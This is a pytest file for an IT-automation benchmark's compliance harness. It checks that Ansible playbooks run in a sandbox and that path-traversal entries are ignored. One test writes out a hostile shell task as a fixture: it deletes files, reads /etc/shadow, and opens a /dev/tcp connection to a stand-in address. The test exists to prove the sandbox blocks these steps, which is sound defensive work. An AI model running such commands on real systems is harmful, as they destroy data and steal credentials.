from __future__ import annotations

import asyncio
import hashlib
from collections.abc import Sequence
from pathlib import Path

import pytest

from itbench.compliance import playbook
from itbench.compliance.asked import Asked
from itbench.compliance.place import Place
from itbench.compliance.playbook import MODES, find_ansible, make_root
from itbench.compliance.trying import try_answer
from itbench.compliance.variants import Variant
from itbench.model.compliance import Judged
from itbench.model.errors import MissingExtraError
from itbench.scoring.compliance import score_compliance

FILES = {
    "etc/motd": b"hello\n",
    MODES: b"0640\t/etc/motd\n0000\t/etc/shadow\n0700\t/var/log/audit/\n0600\t/var/log/audit/audit.log\n",
}
SETS = (Variant("static-resources", "violating", FILES),)


def tried(tasks: str, policy: str, place: Place, sets: Sequence[Variant] = SETS) -> Judged:
    try:
        find_ansible()
    except MissingExtraError as error:
        pytest.skip(str(error))
    book = f"- hosts: localhost\n  gather_facts: false\n  tasks:\n{tasks}"
    files = {"playbook.yml": book, "policy.rego": f"package check\n\n{policy}\n"}
    return asyncio.run(try_answer(Asked("host-ansible-opa"), files, sets, place))


def test_a_folder_stands_for_the_root_with_real_modes(tmp_path: Path) -> None:
    make_root(tmp_path / "root", FILES)
    root = tmp_path / "root"
    modes = {str(path.relative_to(root)): oct(path.stat().st_mode & 0o7777) for path in root.rglob("*")}
    assert modes["etc/motd"] == "0o640"
    assert modes["etc/shadow"] == "0o0"
    assert modes["var/log/audit"] == "0o700"
    assert modes["etc"] == "0o755"
    assert not (root / "inventory").exists()


def test_paths_that_lead_out_of_the_folder_are_left_alone(tmp_path: Path) -> None:
    (tmp_path / "outside").write_text("x")
    before = (tmp_path / "outside").stat().st_mode
    make_root(tmp_path / "root", {MODES: b"0000\t/../outside\n0777\tetc\n"})
    assert (tmp_path / "outside").stat().st_mode == before


@pytest.mark.integration
def test_modes_and_texts_reach_the_policy(place: Place) -> None:
    tasks = """  - ansible.builtin.stat: {path: "{{ root }}/etc/shadow"}
    register: shadow
  - ansible.builtin.copy:
      dest: "{{ playbook_dir }}/collected_data.json"
      content: "{{ {'mode': shadow.stat.mode, 'motd': lookup('file', root ~ '/etc/motd')} | to_json }}"
"""
    seen = tried(tasks, 'result := input != {"mode": "0000", "motd": "hello"}', place)
    assert [one.verdict for one in seen.tried] == ["false"], seen


@pytest.mark.integration
def test_a_playbook_that_calls_a_shell_is_in_the_same_sandbox(place: Place, tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    mark.write_text("keep me")
    before = hashlib.sha256(mark.read_bytes()).hexdigest()
    tasks = f"""  - ansible.builtin.shell: |
      rm -f {mark}; touch {tmp_path}/pwned /tmp/itbench-pwned; rm -rf {{{{ root }}}}/etc; echo x >> {{{{ root }}}}/etc/motd
      cat /etc/shadow > stolen; cat {{{{ root }}}}/etc/motd > motd
      (exec 3<>/dev/tcp/192.0.2.1/80) && echo reached > reached
      python3 -c 'import json, os; json.dump([open("stolen").read(), open("motd").read(), os.path.exists("reached")],
      open("collected_data.json", "w"))'
    args: {{executable: /bin/bash, chdir: "{{{{ playbook_dir }}}}"}}
"""
    seen = tried(tasks, 'result := input != ["", "hello\\n", false]', place)
    assert [one.verdict for one in seen.tried] == ["false"], seen
    assert hashlib.sha256(mark.read_bytes()).hexdigest() == before
    assert not (tmp_path / "pwned").exists()
    assert not Path("/tmp/itbench-pwned").exists()
    points = score_compliance(seen)["safety"].evidence["points"]
    assert any("playbook.yml" in line for line in points["network attempt"])
    assert any("playbook.yml" in line for line in points["write outside the workspace"])


@pytest.mark.integration
@pytest.mark.parametrize(
    ("tasks", "told"),
    [
        ("  - ansible.builtin.fail: {msg: not today}\n", "not today"),
        ("  - ansible.builtin.nothing: {}\n", "couldn't resolve module/action"),
        ("  - ansible.builtin.debug: {msg: x}\n", "left no collected_data.json"),
    ],
)
def test_a_playbook_that_fails_is_said_to_fail(tasks: str, told: str, place: Place) -> None:
    seen = tried(tasks, "result := false", place)
    assert told in seen.tried[0].fetched.problem
    assert score_compliance(seen)["fetch_generates_data"].values["fetch_generates_data"] == 0


def test_without_ansible_the_install_command_is_named(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(playbook.importlib.util, "find_spec", lambda _: None)
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    with pytest.raises(MissingExtraError, match=r"itbench\[ansible\]"):
        find_ansible()
